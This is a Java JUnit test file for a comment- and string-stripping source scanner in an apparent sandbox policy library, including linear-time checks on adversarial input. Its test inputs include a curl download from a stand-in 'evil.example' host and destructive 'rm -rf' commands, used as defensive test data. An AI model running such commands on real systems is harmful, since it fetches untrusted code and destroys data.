package dev.sandbox4j.core.policy.scan;

import static org.assertj.core.api.Assertions.assertThat;

import dev.sandbox4j.policy.ScannedSource;
import java.util.Random;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class GenericScannerTest {
    private final GenericScanner scanner = new GenericScanner();

    /** code, expected codeOnly ({@code |} stands for a line break in both). */
    @ParameterizedTest
    @CsvSource(delimiterString = "=>", quoteCharacter = '~', value = {
        "~x = 1 # eval(y)~ => ~x = 1          ~",
        "~#!/bin/sh|echo hi~ => ~         |echo hi~",
        "~#include <x.h>|int x;~ => ~              |int x;~",
        "~a // comment|b;~ => ~a           |b;~",
        "~/* block|comment */ c;~ => ~        |           c;~",
        "~s = 'rm -rf' + \"exec\";~ => ~s = '      ' + \"    \";~",
        "~s = `cmd|line`;~ => ~s = `   |    `;~",
        "~echo a#b $# ok~ => ~echo a#b $# ok~",
        "~curl http://evil.example -o x~ => ~curl http://evil.example -o x~",
        "~rm -rf /* everything~ => ~rm -rf /* everything~",
        "~it's here|and 'there'~ => ~it's here|and '     '~",
        "~say \"unclosed|rm x~ => ~say \"unclosed|rm x~",
        "~echo `unclosed|rm x~ => ~echo `unclosed|rm x~",
        "~s = 'a\\'b' # c~ => ~s = '    '    ~",
        "~x(#not a word start)~ => ~x(                  ~",
    })
    void blanksCommentsAndStringsHeuristically(String code, String codeOnly) {
        ScannedSource s = scanner.scan(code.replace('|', '\n'));
        assertThat(s.codeOnly()).isEqualTo(codeOnly.replace('|', '\n'));
        assertThat(s.imports()).isEmpty();
    }

    @Test
    void keepsStringsInWithoutComments() {
        ScannedSource s = scanner.scan("x = \"a # b\" # c");
        assertThat(s.withoutComments()).isEqualTo("x = \"a # b\"    ");
        assertThat(s.codeOnly()).isEqualTo("x = \"     \"    ");
    }

    @Test
    void findsNoImportsAndUsesDotSeparator() {
        assertThat(scanner.scan("require 'socket'\nimport os\nuse std::fs;").imports()).isEmpty();
        assertThat(scanner.moduleSeparator()).isEqualTo('.');
    }

    @Test
    void neverThrowsAndStaysLinearOnHostileInput() {
        String[] parts = {"#", "//", "/*", "*/", "'", "\"", "`", "\\", "\n", " ", "x", ";", "("};
        Random random = new Random(11);
        for (int k = 0; k < 3000; k++) {
            StringBuilder b = new StringBuilder();
            int len = random.nextInt(40);
            for (int i = 0; i < len; i++) {
                b.append(parts[random.nextInt(parts.length)]);
            }
            String code = b.toString();
            assertThat(scanner.scan(code).codeOnly()).hasSameSizeAs(code);
        }
        // unclosed openers everywhere: would be quadratic without the memo of failed searches
        String hostile = "/* ` '\\' \" ".repeat(100_000);
        assertThat(ScannerChecks.scanWithBoundedReads(GenericScanner::scan, hostile).codeOnly())
                .hasSameSizeAs(hostile);
        for (String unclosed : new String[] {"/* ` '\\' \" ", "/* ", "` ", "' ", "\" "}) {
            ScannerChecks.staysLinear(GenericScanner::scan, unclosed);
        }
    }

    /** About 1 MB of typical code, and how many imports it has. */
    private static ScannerChecks.Sample megabyte() {
        StringBuilder b = new StringBuilder();
        int i = 0;
        while (b.length() < 1_000_000) {
            b.append("# comment ").append(i).append("\nlet s").append(i).append(" = \"str\\\"ing\" + 'c' + `t`;")
                    .append(" /* block */ call(http://x/").append(i).append(") // tail\n");
            i++;
        }
        return new ScannerChecks.Sample(b.toString(), -1);
    }

    @Test
    void scansOneMegabyteReadingEachCharacterABoundedNumberOfTimes() {
        ScannerChecks.Sample sample = megabyte();
        String code = sample.code();
        ScannedSource s = ScannerChecks.scanWithBoundedReads(GenericScanner::scan, code);
        assertThat(s.codeOnly()).hasSameSizeAs(code);
    }

    @Test
    @Tag("benchmark")
    void printsTheTimeToScanOneMegabyte() {
        ScannerChecks.printScanTime(scanner, megabyte().code());
    }
}
